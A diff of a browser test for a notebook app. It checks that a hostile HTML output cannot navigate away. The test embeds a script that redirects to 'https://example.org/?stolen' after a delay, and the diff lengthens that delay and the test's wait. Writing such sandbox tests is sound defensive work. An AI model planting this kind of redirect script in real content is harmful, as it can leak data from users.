@@ -107,10 +107,11 @@ describe("a hostile document", () => {
     const requested = [];
     page.page.on("request", (request) => requested.push(request.url()));
     await page.newNotebook();
-    const html = "<p>here</p><script>setTimeout(() => { location.href = 'https://example.org/?stolen'; }, 200)</script>";
+    // Late enough to be seen before: a frame whose leaving was refused shows the browser's own page instead.
+    const html = "<p>here</p><script>setTimeout(() => { location.href = 'https://example.org/?stolen'; }, 2000)</script>";
     await page.runCell(0, `from IPython.display import HTML, display\ndisplay(HTML(${JSON.stringify(html)}))`);
     await page.outputFrame(0).locator("p").waitFor();
-    await page.page.waitForTimeout(1000);
+    await page.page.waitForTimeout(3000);
     assert.deepEqual(requested.filter((url) => url.includes("example.org")), []);
     await page.close();
   });
